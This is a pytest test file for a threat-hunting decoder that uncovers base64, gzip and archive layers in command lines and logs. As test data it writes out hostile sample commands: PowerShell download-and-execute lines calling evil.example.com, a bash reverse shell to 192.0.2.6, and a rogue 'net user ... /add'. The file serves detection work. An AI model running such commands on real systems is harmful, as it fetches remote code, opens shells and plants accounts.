"""Encoded text, real and hostile."""

import base64
import gzip
import hashlib
import io
import json
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import duckdb
import pandas as pd
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from huntkit.core.errors import UnknownColumn, UsageError
from huntkit.extract import decode, iocs
from huntkit.extract.decode_limits import DecodeLimits

SCRIPT = "Invoke-WebRequest http://evil.example.com/a.ps1 | iex"


def b64(data: bytes | str, encoding: str = "utf-8") -> str:
    return base64.b64encode(data.encode(encoding) if isinstance(data, str) else data).decode()


def test_columns_and_places():
    run = b64(SCRIPT)
    found = decode(pl.DataFrame({"a": ["no", None, f"run {run} now"]}), "a")
    assert found.columns == [
        "Input", "SourceIndex", "input_column", "Depth", "Encoding", "Decoded", "start", "end",
        "Note", "Layer", "ParentLayer", "Size", "Announced", "limit", "file_name", "file_type",
        "md5", "sha1", "sha256", "steps",
    ]  # fmt: skip
    row = found.row(0, named=True)
    assert (row["SourceIndex"], row["Decoded"], row["Size"]) == (2, SCRIPT, len(SCRIPT))
    assert row["Input"][row["start"] : row["end"]] == run


def test_any_frame_keeps_its_kind_and_index():
    frame = pd.DataFrame({"cmd": ["x", b64(SCRIPT)], "_file": ["a", "b"]}, index=[10, 20])
    found = decode(frame, "cmd", keep=["_file"], include_input=False)
    assert found[["SourceIndex", "Decoded", "_file"]].to_numpy().tolist() == [[20, SCRIPT, "b"]]
    assert decode(b64(SCRIPT))["Decoded"].to_list() == [SCRIPT]
    with pytest.raises(UnknownColumn):
        decode(frame, "cmdd")
    with pytest.raises(UsageError):
        decode(frame, [])
    assert decode(pl.DataFrame({"a": []}), "a").height == 0


CUT_SCRIPTS = [
    "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
    "echo '\U0001f600 hidden in a rare letter' | iex",
]


@pytest.mark.parametrize("dots", ["", "...", "\u2026", " \n"])
@pytest.mark.parametrize("script", CUT_SCRIPTS)
def test_a_command_cut_anywhere_says_what_is_whole(script, dots):
    run = b64(script, "utf-16-le")
    sizes = range(22, len(run.rstrip("=")))
    cuts = pl.DataFrame({"cmd": [f"powershell -enc {run[:size]}{dots}" for size in sizes]})
    found = decode(cuts, "cmd")
    assert found.filter(Depth=1)["SourceIndex"].to_list() == list(range(len(sizes)))
    for size, said, note in zip(sizes, found["Decoded"], found["Note"], strict=True):
        assert script.startswith(said)
        bits = "".join(f"{byte:08b}" for byte in script.encode("utf-16-le"))[: size * 6]
        at = len(said.encode("utf-16-le")) * 8
        assert len(bits) - at < 32  # only a rare letter, written as two, may lack as much
        # Where nothing but zeros is left over, nothing shows that more was there.
        shown = len(bits) - at >= 8 or "1" in bits[at:]
        assert note == ("cut off" if shown or dots.strip() else "")


def test_a_whole_command_is_not_said_to_be_cut():
    for script in CUT_SCRIPTS:
        run = b64(script, "utf-16-le")
        for text in (f"powershell -enc {run}", f"pwsh -e {run.rstrip('=')} x", f"-enc '{run}'"):
            found = decode(text)
            assert (found["Decoded"].to_list(), found["Note"].to_list()) == ([script], [""])


def test_text_in_utf_8_may_end_within_a_letter_only_where_the_text_ends():
    run = b64("net user mallory Passw0rd /add \u2014 now")[:43]
    for text in (f"x {run}", f"x {run}... y"):
        found = decode(text)
        assert found["Decoded"].to_list() == ["net user mallory Passw0rd /add "]
        assert found["Note"].to_list() == ["cut off"]
    assert decode(f"x '{run}' y").empty


def test_text_of_many_scripts_is_found_wherever_a_quick_look_at_it_ends():
    for filling in range(8):
        text = "." * filling + "\u041f\u0440\u0438\u0432\u0435\u0442, \u043c\u0438\u0440! " * 8
        assert decode(f"x {b64(text)} y")["Decoded"].to_list() == [text]


@pytest.mark.parametrize(
    "text",
    [
        "echo {} | base64 -d | sh",
        "echo -n '{}'|base64 --decode|bash",
        'printf "%s" "{}" | /usr/bin/base64 -D',
        "echo {} | openssl base64 -d",
        "echo {} | openssl enc -d -base64",
        "base64 -d <<< {}",
        "base64 --decode <<<'{}'",
        "[Convert]::FromBase64String('{}')",
        "eval(atob('{}'))",
        'eval(base64_decode("{}"));',
        "print decode_base64('{}')",
        "base64.b64decode(b'{}')",
        "Base64.decode64('{}')",
        "SELECT from_base64('{}')",
        "Buffer.from('{}', 'base64')",
        "'{}'.decode('base64')",
        "\u0130 ATOB('{}')",
    ],
)
def test_short_text_is_decoded_where_a_call_says_so(text):
    for word in ("id", "dir", "whoami"):
        run = b64(word)
        found = decode(text.format(run))
        assert found["Decoded"].to_list() == [word]
        assert found["Announced"].to_list() == [True]
        assert text.format(run)[found["start"][0] : found["end"][0]] == run


def test_short_text_in_hexadecimal_is_decoded_where_a_shell_does():
    found = decode("echo 77686f616d69 | xxd -r -p | sh")
    assert found[["Encoding", "Decoded"]].to_numpy().tolist() == [["hex > utf-8", "whoami"]]


@pytest.mark.parametrize(
    "text",
    [
        "cat file | base64 -d",
        "cat /tmp/file | base64 -d > data",
        "echo $file | base64 -d",
        "curl -s site/load | base64 -d | sh",
        "echo done; tool | base64 -d",
        "echo d2hvYW1p | base64 -w0",
        "echo data | base64",
        "Authorization: Basic auth is needed here",
        "WWW-Authenticate: Basic realm=intranet",
        "Authorization: Bearer d2hvYW1p",
        "base64 --help, base64 -d file",
        "from('data', 'base58')",
    ],
)
def test_words_beside_what_decodes_are_left_alone(text):
    assert decode(text).empty


@pytest.mark.parametrize(
    "text",
    [
        "Authorization: Basic {}",
        '{{"authorization": "Basic {}"}}',
        "curl -H 'Proxy-Authorization: basic {}' http://a.example",
        '$h.Add("Authorization", "Basic {}")',
        '@{{Authorization="Basic {}"}}',
    ],
)
@pytest.mark.parametrize("login", ["a:b", "admin:password", "admin:", "x:%$&/()=?!-_.:,;#+*~"])
def test_credentials_of_http_are_read_and_hide_no_command(text, login):
    found = decode(text.format(b64(login)))
    assert (found["Decoded"].to_list(), found["Announced"].to_list()) == ([login], [False])


def test_all_text_columns_are_searched_when_none_is_named():
    frame = pl.DataFrame({"n": [1], "a": [b64(SCRIPT)], "_file": [b64(SCRIPT)]})
    assert decode(frame)["input_column"].to_list() == ["a"]


def test_arrow_tables_and_duckdb_relations_give_the_same_rows():
    frame = pl.DataFrame({"cmd": ["x", f"powershell -enc {b64(SCRIPT, 'utf-16-le')}"]})
    wanted = decode(frame)
    assert wanted.height == 1
    assert pl.from_arrow(decode(frame.to_arrow())).equals(wanted)
    with duckdb.connect() as connection:
        relation = decode(connection.from_arrow(frame.to_arrow()))
        assert isinstance(relation, duckdb.DuckDBPyRelation)
        assert relation.pl().equals(wanted)
    assert pl.from_pandas(decode(frame.to_pandas())).rows() == wanted.rows()


PLAIN = "Some long identity of a mailbox, nothing else"


@pytest.mark.parametrize(
    "data",
    [
        gzip.compress(PLAIN.encode()),
        PLAIN.encode("utf-16-le"),
        b"bash -i >& /dev/tcp/192.0.2.6/443 0>&1",
        b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run" + b"\xff" * 40,
    ],
    ids=["compressed", "utf-16", "shell", "program"],
)
def test_content_can_announce_itself(data):
    found = decode(pl.DataFrame({"value": [f"value={b64(data)}"]}))
    assert found["Announced"].to_list() == [True]


@pytest.mark.parametrize(
    "unit", ["a", "A", "=", "+", "/", "-e ", "'+'", "QUJD", "base64,", "\r\n", "/base64/QUJD"]
)
def test_a_long_text_of_anything_takes_no_quadratic_time(unit, hang_guard):
    text = (unit * (400_000 // len(unit) + 1))[:400_000]
    with hang_guard():
        decode(pl.DataFrame({"text": [text]}), "text")


@pytest.mark.data
def test_empire_launchers_come_out_as_readable_powershell(lines_of):
    lines = lines_of("atomic/windows/execution/host/empire_launcher_vbs.zip")
    commands = [command for line in lines if (command := json.loads(line).get("CommandLine"))]
    found = decode(pl.DataFrame({"CommandLine": commands}), "CommandLine")
    first = found.filter(pl.col("Depth") == 1)["Decoded"][0]
    assert first.lower().startswith("if($psversiontable.psversion.major -ge 3)")
    assert "http://10.10.10.5" in found.filter(pl.col("Depth") == 2)["Decoded"].to_list()


@pytest.mark.data
@pytest.mark.parametrize("name", ["demo_exchange_data.csv", "mde_proc_cs1.csv"])
def test_base64_that_software_wrote_is_no_announced_command(shared_data, name):
    found = decode(pl.read_csv(shared_data / "logs" / name, infer_schema=False))
    assert found.height > 0
    assert not found["Announced"].any()


@pytest.mark.data
def test_plain_command_lines_give_no_false_layer(windows_events):
    """Figure: no false layer in 20,000 and more distinct texts: command lines, whole messages."""
    assert len(windows_events.texts) > 20_000
    found = decode(pl.DataFrame({"c": sorted(windows_events.texts)}), "c")
    announced = found["Input"].str.contains(r"(?i)-enc\s|frombase64string")
    assert found.filter(~announced)["Decoded"].to_list() == []
    assert found["Announced"].all()
    assert found["Note"].str.starts_with("binary").sum() == 0


SETS = {
    "atomic/windows/discovery/host/empire_shell_net_local_users.zip": "10.10.10.5",
    "atomic/windows/defense_evasion/host/empire_wdigest_downgrade.tar.gz": "10.0.10.106",
    "compound/Log4Shell/sysmon_log4shell_cve2021_44228_java_serialized_object.zip": "192.168.3.5",
}


def zip_lines(path: Path) -> Iterator[bytes]:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            yield from archive.read(name).splitlines()


def archived_lines(path: Path) -> list[bytes]:
    if path.name.endswith(".zip"):
        return list(zip_lines(path))
    with tarfile.open(path) as archive:
        files = [archive.extractfile(member) for member in archive if member.isfile()]
        return [line for file in files if file for line in file.read().splitlines()]


@pytest.mark.data
@pytest.mark.parametrize(("name", "address"), SETS.items())
def test_addresses_behind_encoded_launchers_are_among_the_indicators(shared_data, name, address):
    lines = archived_lines(shared_data / "security-datasets" / name)
    fields = [json.loads(line) for line in lines]
    texts = {value for row in fields for value in row.values() if isinstance(value, str)}
    launchers = sorted(text for text in texts if "powershell" in text.lower())
    assert launchers
    layers = decode(pl.DataFrame({"text": launchers}), "text")
    assert layers["Announced"].all()
    plain = layers.filter(pl.col("file_type") == "")
    found = iocs(plain, "Decoded")
    assert address in found["Observable"].to_list()
    # It stands in no launcher in plain text: only decoding tells it.
    holders = layers.filter(pl.col("Decoded").str.contains(address, literal=True))
    assert holders.height > 0
    assert not any(address in text for text in holders["Input"] if "-enc" in text[:400])


@pytest.mark.data
def test_the_reverse_shell_of_log4shell_is_told(shared_data):
    name = "compound/Log4Shell/syslog_sysmon_log4shell_cve2021_44228_jndi_reference.zip"
    lines = [line.decode() for line in zip_lines(shared_data / "security-datasets" / name)]
    found = decode(pl.DataFrame({"line": lines}), "line")
    shells = found.filter(pl.col("Decoded").str.starts_with("bash -i >& /dev/tcp/192.168.2.6/443"))
    assert shells.height > 0
    assert shells["Announced"].all()


def test_compressed_launchers_come_out_readable():
    packer = zlib.compressobj(wbits=-15)
    deflated = b64(packer.compress(SCRIPT.encode()) + packer.flush())
    gzipped = b64(gzip.compress(SCRIPT.encode()))
    decoded = f"[Convert]::FromBase64String('{deflated}')"
    stream = f"New-Object IO.Compression.DeflateStream([IO.MemoryStream]{decoded},$mode)"
    unzip = "New-Object IO.Compression.GzipStream($s,$mode)"
    launchers = [
        f"IEX (New-Object IO.StreamReader(({stream}),[Text.Encoding]::ASCII)).ReadToEnd()",
        f"$s=[Convert]::FromBase64String('{gzipped}');IEX (New-Object IO.StreamReader({unzip}))",
        f"$d='{deflated}';$b=[Convert]::FromBase64String($d);iex (inflate $b)",
    ]
    for launcher in launchers:
        found = decode(pl.DataFrame({"cmd": [launcher]}), "cmd")
        assert found["Decoded"].to_list() == [SCRIPT]
        wrapped = f"powershell -w hidden -enc {b64(launcher, 'utf-16-le')}"
        found = decode(pl.DataFrame({"cmd": [wrapped]}), "cmd")
        assert found["Decoded"].to_list() == [launcher, SCRIPT]
        assert found.select("Layer", "ParentLayer", "Depth").rows() == [(1, 0, 1), (2, 1, 2)]


def test_each_layer_has_its_hashes_and_the_steps_that_led_to_it():
    packed = gzip.compress(SCRIPT.encode("utf-16-le"))
    (row,) = decode(pl.DataFrame({"a": [b64(packed)]})).rows(named=True)
    data = SCRIPT.encode("utf-16-le")
    assert row["md5"] == hashlib.md5(data).hexdigest()
    assert row["sha1"] == hashlib.sha1(data).hexdigest()
    assert row["sha256"] == hashlib.sha256(data).hexdigest()
    assert row["steps"] == [
        {"encoding": "base64", "size": len(packed), "sha256": hashlib.sha256(packed).hexdigest()},
        {"encoding": "gzip", "size": len(data), "sha256": hashlib.sha256(data).hexdigest()},
    ]


def test_files_of_an_archive_are_layers_below_it():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("../run.ps1", f"powershell -enc {b64(SCRIPT, 'utf-16-le')}")
        archive.writestr("a.exe", b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run")
    found = decode(pl.DataFrame({"a": [f"x {b64(out.getvalue())}"]}))
    told = found.select("Layer", "ParentLayer", "Depth", "Encoding", "file_name", "file_type")
    assert told.rows() == [
        (1, 0, 1, "base64", "", "zip archive"),
        (2, 1, 2, "zip > utf-8", "../run.ps1", ""),
        (3, 1, 2, "zip", "a.exe", "Windows program"),
        (4, 2, 3, "base64 > utf-16-le", "", ""),
    ]
    assert found["Decoded"][0] == "../run.ps1\na.exe"
    assert found["Decoded"][3] == SCRIPT
    assert found["start"].to_list()[1:3] == [None, None]


def test_limits_are_refused_where_they_make_no_sense():
    with pytest.raises(UsageError, match="depth"):
        DecodeLimits(depth=0)


MESSY = st.one_of(
    st.none(), st.integers(), st.floats(), st.booleans(), st.binary(max_size=30),
    st.text(max_size=60), st.lists(st.text(max_size=9), max_size=3),
    st.dictionaries(st.text(max_size=3), st.text(max_size=9)),
    st.text(alphabet="AaQkZg09+/=-_%'\"&#;x\\ue\n ", max_size=120),
    st.binary(max_size=60).map(b64), st.binary(max_size=60).map(lambda data: "-enc " + b64(data)),
    st.binary(max_size=60).map(lambda data: "FromBase64String('" + b64(gzip.compress(data)) + "')"),
)  # fmt: skip


@settings(max_examples=80)
@given(st.lists(MESSY, max_size=8), st.booleans())
def test_no_frame_makes_it_fail(values, xor):
    frame = pd.DataFrame({"odd name": pd.Series(values, dtype=object), "index": range(len(values))})
    found = decode(frame, "odd name", xor=xor, keep=["index"])
    assert set(found["SourceIndex"]) <= set(range(len(values)))
    assert (found["SourceIndex"] == found["index"]).all()
    assert found["Depth"].between(1, 20).all()
    again = decode(frame, "odd name", xor=xor, keep=["index"])
    assert found.equals(again)
